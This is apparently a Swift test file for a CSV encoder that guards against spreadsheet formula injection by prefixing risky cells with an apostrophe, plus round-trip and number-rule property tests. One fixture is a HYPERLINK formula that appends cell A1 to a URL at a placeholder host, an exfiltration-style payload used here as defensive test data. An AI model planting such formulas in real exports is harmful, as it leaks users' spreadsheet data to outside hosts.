import RapportTestSupport
import Testing

@testable import RapportCore

/// Spreadsheet safety in the one CSV encoder: a cell Excel or LibreOffice would run as a
/// formula is written with a leading `'`; numbers, other text and the header are kept, and
/// RFC 4180 quoting still applies to the guarded cell.
@Suite struct CSVTableTests {
  static let hyperlink = #"=HYPERLINK("http://example.invalid/?"&A1,"x")"#

  @Test func formulaLeadingCellsGetAnApostrophe() {
    let table = CSVTable(
      header: ["cell"],
      rows: [
        ["=1+1"], ["+SUM(A1)"], ["-2+3"], ["@SUM(1+1)"], ["\tTAB"], ["\rCR"], ["-"], ["+"],
        ["- a list"], ["-1+2"], ["--5"], ["-1e"], ["-inf"], ["'=1"], ["''-5"], ["'-note'"],
      ])
    #expect(
      table.text.replacingOccurrences(of: "\r\n", with: "\n") == """
        cell
        '=1+1
        '+SUM(A1)
        '-2+3
        '@SUM(1+1)
        '\tTAB
        "'\rCR"
        '-
        '+
        '- a list
        '-1+2
        '--5
        '-1e
        '-inf
        ''=1
        '''-5
        ''-note'

        """)
  }

  @Test func numbersTextAndTheHeaderAreKept() {
    let table = CSVTable(
      header: ["-x", "=y", "@z"],
      rows: [
        ["-5", "+3.5", "-0.25"], ["-1e3", "+2.5E-4", "-.5"], ["42", "", "1 = yes"],
        ["É=é", "日本語 -1", "naïve @ home"], ["'quoted'", "it's", "a-b"],
      ])
    #expect(
      table.text == """
        -x,=y,@z\r
        -5,+3.5,-0.25\r
        -1e3,+2.5E-4,-.5\r
        42,,1 = yes\r
        É=é,日本語 -1,naïve @ home\r
        'quoted',it's,a-b\r

        """)
  }

  @Test func aGuardedCellIsStillQuotedWhenItHoldsACommaOrAQuote() {
    let table = CSVTable(
      header: ["note"], rows: [[Self.hyperlink], ["=A1, then B1"], ["-\"x\""], ["@ end "]])
    #expect(
      table.text == """
        note\r
        "'=HYPERLINK(""http://example.invalid/?""&A1,""x"")"\r
        "'=A1, then B1"\r
        "'-""x""\"\r
        "'@ end "\r

        """)
    #expect(CSVTable.field("=a,b") == "\"'=a,b\"")
    #expect(CSVTable.field("=a,b", cells: .verbatim) == "\"=a,b\"")
  }

  @Test func verbatimWritesEveryCellAsTyped() {
    let table = CSVTable(
      header: ["note", "n"], rows: [[Self.hyperlink, "-1+2"], ["@SUM(1+1)", "\tx"]])
    #expect(
      table.text(.verbatim) == """
        note,n\r
        "=HYPERLINK(""http://example.invalid/?""&A1,""x"")",-1+2\r
        @SUM(1+1),"\tx"\r

        """)
  }

  /// Taking one `'` off every cell that starts with apostrophes and then `=`, `+`, `-`, `@`,
  /// tab or CR gives back the text as typed (the rule the `labelled` scripts apply).
  @Test func theGuardComesOffAgainExactly() {
    let alphabet: [Character] = Array("'=+-@\t\r0123456789.eE a,\"é日")
    var generator = SeededGenerator(seed: 23)
    var guarded = 0
    for _ in 0..<20_000 {
      let typed = generator.text(from: alphabet, maxLength: 8)
      let written = CSVTable.cell(typed, .spreadsheetSafe)
      if written != typed { guarded += 1 }
      #expect(Self.unguarded(written) == typed, "\(typed.debugDescription)")
      #expect(CSVTable.cell(typed, .verbatim) == typed)
      let first = written.first
      #expect(
        first.map { !"=+-@\t\r".contains($0) } ?? true || Self.isPlainNumber(written),
        "\(typed.debugDescription) is still formula-like as \(written.debugDescription)")
    }
    #expect(guarded > 2_000, "the generator reaches the guard")
  }

  /// The reverse rule, written as a regular expression like the scripts' own.
  static func unguarded(_ cell: String) -> String {
    cell.prefixMatch(of: /'+[=+\-@\t\r]/) == nil ? cell : String(cell.dropFirst())
  }

  /// A sign and a plain decimal number, as a regular expression (the encoder reads bytes).
  static func isPlainNumber(_ cell: String) -> Bool {
    cell.wholeMatch(of: /[+\-]([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+\-]?[0-9]+)?/) != nil
  }

  @Test func theNumberRuleAgreesWithItsRegularExpression() {
    let alphabet: [Character] = Array("+-0123456789.eE,x ")
    var generator = SeededGenerator(seed: 29)
    for _ in 0..<20_000 {
      let text = "-" + generator.text(from: alphabet, maxLength: 7)
      #expect(CSVTable.isFormulaLike(text) == !Self.isPlainNumber(text), "\(text.debugDescription)")
    }
  }
}
